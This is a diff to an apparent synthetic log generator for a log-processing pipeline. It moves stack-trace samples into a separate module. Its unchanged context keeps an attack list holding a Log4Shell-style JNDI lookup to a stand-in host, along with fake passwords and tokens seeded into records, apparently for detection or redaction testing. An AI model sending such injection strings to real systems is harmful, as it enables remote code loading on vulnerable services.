@@ -27,6 +27,7 @@ sys.path.insert(0, str(ROOT))
 
 from logpipe.documents import to_docs  # noqa: E402
 from logpipe.pipeline import load_pipeline  # noqa: E402
+from logpipe.samples import JAVA_TRACE, PY_TRACE  # noqa: E402
 from logpipe.sink import build_body  # noqa: E402
 
 REFERENCE = datetime(2026, 11, 26, 12, 0, tzinfo=UTC)
@@ -50,20 +51,6 @@ ATTACKS = [
     "/x?q=${jndi:ldap://evil.example/a}",
 ]
 SECRET_QUERIES = ["/login?user=bob&password=Summer2024!", "/api/v1/me?access_token=ya29.a0AfH6SM"]
-JAVA_TRACE = (
-    "java.lang.IllegalStateException: order {n} is locked\n"
-    "\tat com.shop.orders.OrderService.pay(OrderService.java:88)\n"
-    "\tat com.shop.api.OrderController.post(OrderController.java:41)\n"
-    "Caused by: java.sql.SQLTimeoutException: lock wait timeout\n"
-    "\tat org.postgresql.jdbc.PgStatement.execute(PgStatement.java:120)\n"
-    "\t... 12 more"
-)
-PY_TRACE = (
-    "Traceback (most recent call last):\n"
-    '  File "/app/worker.py", line 42, in render\n'
-    "    page = template.render(user)\n"
-    "KeyError: 'user_name'"
-)
 
 
 def _moment(rng: random.Random) -> datetime:
@@ -101,7 +88,7 @@ def _application(rng: random.Random) -> str:
         "client_ip": rng.choice(IPS),
     }
     if status >= 500:
-        record["stack_trace"] = rng.choice([JAVA_TRACE, PY_TRACE]).format(n=rng.randint(1, 999))
+        record["stack_trace"] = rng.choice([JAVA_TRACE, PY_TRACE]).format(id=rng.randint(1, 999))
     if rng.random() < 0.03:
         record[rng.choice(["password", "token", "email"])] = rng.choice(
             ["hunter2", "Bearer eyJhbGciOiJIUzI1NiJ9.e30.sig", "person7@example.com"]
